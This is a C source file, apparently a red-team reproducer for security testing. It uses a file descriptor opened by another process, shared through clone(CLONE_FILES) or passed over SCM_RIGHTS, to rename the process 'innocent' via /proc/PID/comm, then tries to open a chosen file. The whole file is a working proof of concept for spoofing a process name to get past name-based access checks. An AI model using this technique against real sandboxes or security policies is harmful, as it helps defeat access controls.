/* comm_shared MODE FILE (from the red team's rt8 reproducer): renames the process "innocent" through a /proc/PID/comm fd that
 * another process opened, then opens FILE and prints its own comm.
 *   clonefiles: a clone(CLONE_FILES) child opens /proc/PARENT/comm O_WRONLY into the shared table
 *   scm:        a forked child opens /proc/PARENT/comm and sends it over SCM_RIGHTS */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
static char stack[65536];
static int shared_fd = -1;
static pid_t parent;
static int child_open(void *arg) {
    char p[64]; snprintf(p, sizeof p, "/proc/%d/comm", parent);
    shared_fd = open(p, O_WRONLY);
    return shared_fd >= 0 ? 0 : 1;
}
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    parent = getpid();
    int fd = -1;
    if (!strcmp(argv[1], "clonefiles")) {
        pid_t c = clone(child_open, stack + sizeof stack, CLONE_FILES | CLONE_VM | SIGCHLD, NULL);
        int st; waitpid(c, &st, 0);
        fd = shared_fd;
    } else {
        int sv[2]; socketpair(AF_UNIX, SOCK_DGRAM, 0, sv);
        pid_t c = fork();
        if (c == 0) {
            char p[64]; snprintf(p, sizeof p, "/proc/%d/comm", parent);
            int f = open(p, O_WRONLY);
            char b = 'x'; struct iovec io = {&b, 1};
            char cbuf[CMSG_SPACE(sizeof(int))]; memset(cbuf, 0, sizeof cbuf);
            struct msghdr m = {0}; m.msg_iov = &io; m.msg_iovlen = 1; m.msg_control = cbuf; m.msg_controllen = sizeof cbuf;
            struct cmsghdr *cm = CMSG_FIRSTHDR(&m); cm->cmsg_level = SOL_SOCKET; cm->cmsg_type = SCM_RIGHTS;
            cm->cmsg_len = CMSG_LEN(sizeof(int)); memcpy(CMSG_DATA(cm), &f, sizeof f);
            sendmsg(sv[1], &m, 0); _exit(0);
        }
        char b; struct iovec io = {&b, 1}; char cbuf[CMSG_SPACE(sizeof(int))];
        struct msghdr m = {0}; m.msg_iov = &io; m.msg_iovlen = 1; m.msg_control = cbuf; m.msg_controllen = sizeof cbuf;
        if (recvmsg(sv[0], &m, 0) > 0) memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
        waitpid(c, NULL, 0);
    }
    if (fd < 0 || write(fd, "innocent", 8) != 8) { printf("rename failed: %s\n", strerror(errno)); return 1; }
    char name[32] = {0}; prctl(PR_GET_NAME, name);
    printf("name %s\n", name); fflush(stdout);
    int f = open(argv[2], O_RDONLY);
    printf("open %s\n", f >= 0 ? "ok" : strerror(errno));
    return 0;
}
